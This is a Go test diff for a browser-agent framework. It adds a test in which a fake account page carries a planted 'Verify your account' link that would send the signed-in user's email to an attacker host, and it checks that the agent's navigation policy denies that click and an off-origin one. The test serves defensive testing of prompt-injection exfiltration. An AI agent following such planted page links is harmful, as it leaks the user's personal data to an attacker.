@@ -10,6 +10,7 @@ import (
 	"strings"
 	"sync"
 	"testing"
+	"time"
 
 	"vroom/agents"
 	"vroom/internal/modeltest"
@@ -148,5 +149,69 @@ func TestBlogInjections(t *testing.T) {
 		if strings.Contains(first, marker) != visible {
 			t.Errorf("%s in what the model read: %v, want %v", marker, !visible, visible)
 		}
+	}
+}
+
+// TestNewTabLinkGuarded: a link that opens a new tab is outside the tab's
+// request guard (the request is the new tab's), so its destination is
+// checked before the click. An executor obeying the page clicks "Verify
+// your account" (the email to another origin, in a new tab): refused, the
+// attacker gets nothing. "Read the docs" (another origin, no data) is
+// refused headless for leaving the run's sites; "About us" (the run's own
+// site, new tab) opens.
+func TestNewTabLinkGuarded(t *testing.T) {
+	t.Parallel()
+	b := newBlog(t)
+	about := make(chan struct{}, 4)
+	site := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", "text/html")
+		if r.URL.Path == "/about" {
+			about <- struct{}{}
+			fmt.Fprint(w, "<title>About</title><p>About us</p>")
+			return
+		}
+		fmt.Fprintf(w, `<title>Account</title><p>Signed in as ada@example.com</p>
+<a href="%[1]s/collect?e=ada%%40example.com" target="_blank">Verify your account</a>
+<a href="%[1]s/docs" target="_blank">Read the docs</a>
+<a href="/about" target="_blank">About us</a>`, b.Attacker)
+	}))
+	t.Cleanup(site.Close)
+	h := newHarness(t, func(c *agents.Config) { c.Policy.ConfirmLeaveOrigin = true })
+	h.srv.Script("planner", plannerScript(map[string]any{"task": "check the account page", "url": site.URL + "/account"}))
+	links := []string{"Verify your account", "Read the docs", "About us"}
+	h.srv.Script("executor", modeltest.Step{Times: -1, Func: func(r *modeltest.Request) modeltest.Reply {
+		if n := r.ToolResults(); n < len(links) {
+			return call("click", "ref", modeltest.Ref(r.Text(), "link", links[n]))
+		}
+		return done("The account page is for ada@example.com.", true)
+	}})
+	if res := h.execute(t, "check the account page"); !res.Success {
+		t.Fatalf("the run: %+v", res)
+	}
+	if hits, _ := b.counts(); len(hits) != 0 {
+		t.Fatalf("the attacker got %q", hits)
+	}
+	var refusals []string
+	for _, r := range h.log.records(t) {
+		if r.Event == agents.LogPolicyDenied {
+			refusals = append(refusals, r.Error)
+		}
+	}
+	want := []string{
+		"navigate to " + b.Attacker + `/collect?e=ada%40example.com: denied: it would send your email "ada@example.com"`,
+		"navigate to " + b.Attacker + "/docs: denied: it leaves the run's starting origin " + site.URL,
+	}
+	if len(refusals) != len(want) {
+		t.Fatalf("refusals %q, want %d", refusals, len(want))
+	}
+	for i, w := range want {
+		if !strings.HasPrefix(refusals[i], w) {
+			t.Errorf("refusal %d: %q, want %q", i, refusals[i], w)
+		}
+	}
+	select {
+	case <-about:
+	case <-time.After(10 * time.Second):
+		t.Fatal("the site's own page did not open in a new tab")
 	}
 }
